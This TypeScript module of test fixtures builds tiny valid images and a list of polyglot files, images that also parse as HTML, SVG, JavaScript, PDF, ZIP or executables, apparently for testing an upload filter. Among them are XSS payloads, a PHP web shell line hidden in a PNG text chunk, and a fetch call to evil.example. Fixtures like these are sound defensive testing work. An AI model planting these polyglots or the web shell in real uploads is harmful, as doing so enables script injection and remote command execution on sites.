import { deflateSync, crc32 } from 'node:zlib'

/** Small whole pictures, and files that are a picture and something else at once. Made here, so that each shows its trick. */

const bytes = (...parts: readonly (string | Uint8Array)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))

const u16le = (value: number): Buffer => Buffer.from([value & 255, value >> 8])

function chunk(type: string, data: Uint8Array): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = bytes(type, data)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return bytes(length, body, sum)
}

export function png(extra: Uint8Array = Buffer.alloc(0)): Buffer {
  const header = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0])
  const rows = deflateSync(Buffer.from([0, 1, 2, 3]))
  return bytes('\x89PNG\r\n\x1a\n', chunk('IHDR', header), extra, chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0)))
}

export function gif(comment = '', size = u16le(1)): Buffer {
  const extension = comment === '' ? '' : bytes('\x21\xfe', Buffer.from([comment.length]), comment, '\0')
  const picture = bytes('\x2c\0\0\0\0\x01\0\x01\0\0', '\x02\x02\x44\x01\0')
  return bytes('GIF89a', size, u16le(1), '\x80\0\0', '\0\0\0\xff\xff\xff', extension, picture, '\x3b')
}

export function jpeg(comment = ''): Buffer {
  const length = Buffer.alloc(2)
  length.writeUInt16BE(comment.length + 2)
  const app0 = bytes('\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0')
  return bytes(
    '\xff\xd8',
    app0,
    comment === '' ? '' : bytes('\xff\xfe', length, comment),
    '\xff\xda\0\x08\x01\x01\0\0\x3f\0\x37',
    '\xff\xd9',
  )
}

export function webp(extra: Uint8Array = Buffer.alloc(0)): Buffer {
  const body = bytes('WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0', extra)
  const length = Buffer.alloc(4)
  length.writeUInt32LE(body.length)
  return bytes('RIFF', length, body)
}

const ZIP = bytes('PK\x03\x04\x14\0\0\0\0\0', Buffer.alloc(40), 'PK\x05\x06', Buffer.alloc(18))
const PAGE = '<html><script>alert(1)</script></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const PDF = '%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF'

export const PLAIN: readonly (readonly [type: string, content: Buffer])[] = [
  ['image/png', png()],
  ['image/png', png(chunk('tEXt', bytes('Software\0<x:xmpmeta xmlns:x="adobe:ns:meta/">')))],
  ['image/gif', gif()],
  ['image/gif', gif('made with <3 and "quotes"')],
  ['image/jpeg', jpeg()],
  ['image/jpeg', jpeg('a holiday // in the hills')],
  ['image/webp', webp()],
]

export const POLYGLOTS: readonly (readonly [what: string, content: Buffer])[] = [
  ['an SVG', bytes(SVG)],
  ['an SVG behind an XML head', bytes(`<?xml version="1.0"?>${SVG}`)],
  ['an SVG behind a mark of byte order', bytes('\xef\xbb\xbf', SVG)],
  ['an SVG behind a long comment', bytes(`<!--${'x'.repeat(5000)}-->`, SVG)],
  ['a page', bytes(`<!DOCTYPE html>${PAGE}`)],
  ['a page behind blanks', bytes('\n\n   \t', PAGE)],
  ['a page in UTF-16', bytes('\xff\xfe', Buffer.from(PAGE, 'utf16le'))],
  ['a program', bytes('alert(document.cookie)')],
  ['a module', bytes('export default () => fetch("//evil.example")')],
  [
    'an archive of a page',
    bytes('From: x\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n', PAGE),
  ],
  ['a PDF', bytes(PDF)],
  ['a ZIP', ZIP],
  ['an executable', bytes('MZ\x90\0\x03\0\0\0', Buffer.alloc(200))],
  ['a GIF that is a program', bytes(gif('*/=1;alert(1);//', bytes('/*')))],
  ['a GIF that is assigned to', bytes('GIF89a=1;alert(1);//', Buffer.alloc(20), ';')],
  ['a GIF with a page in its comment', gif(PAGE)],
  ['a GIF with an SVG in its comment', gif(SVG)],
  ['a GIF before a page', bytes(gif(), PAGE)],
  ['a GIF before a ZIP', bytes(gif(), ZIP)],
  ['a GIF of a header alone', bytes('GIF89a')],
  ['a PNG with a page in its text', png(chunk('tEXt', bytes('Comment\0', PAGE)))],
  ['a PNG with PHP in its text', png(chunk('tEXt', bytes('Comment\0<?php system($_GET[0]) ?>')))],
  ['a PNG before a page', bytes(png(), PAGE)],
  ['a PNG before a ZIP', bytes(png(), ZIP)],
  ['a PNG that is a PDF as well', png(chunk('teXt', bytes(PDF)))],
  [
    'a JPEG that is a program',
    bytes('\xff\xd8\xff\xe0/*JFIF\0\x01\x01', Buffer.alloc(0x2f2a - 10), '*/=1;alert(1)/*', '\xff\xd9'),
  ],
  ['a JPEG with a page in its comment', jpeg(PAGE)],
  ['a JPEG with an SVG that begins in another piece', jpeg(`${'x'.repeat(975)}<svg onload=alert(1)>`)],
  ['a JPEG before a ZIP', bytes(jpeg(), ZIP)],
  ['a WEBP before a page', bytes(webp(), PAGE)],
  ['a WEBP with a page inside', webp(bytes('EXIF\x26\0\0\0', PAGE))],
  ['a WEBP whose length opens a comment', bytes('RIFF/*\0\0WEBPVP8L', Buffer.alloc(60), '*/=1;alert(1)')],
  ['a BMP that is a program', bytes('BM/*\0\0\0\0\0\0', Buffer.alloc(60), '*/=1;alert(1);//')],
]
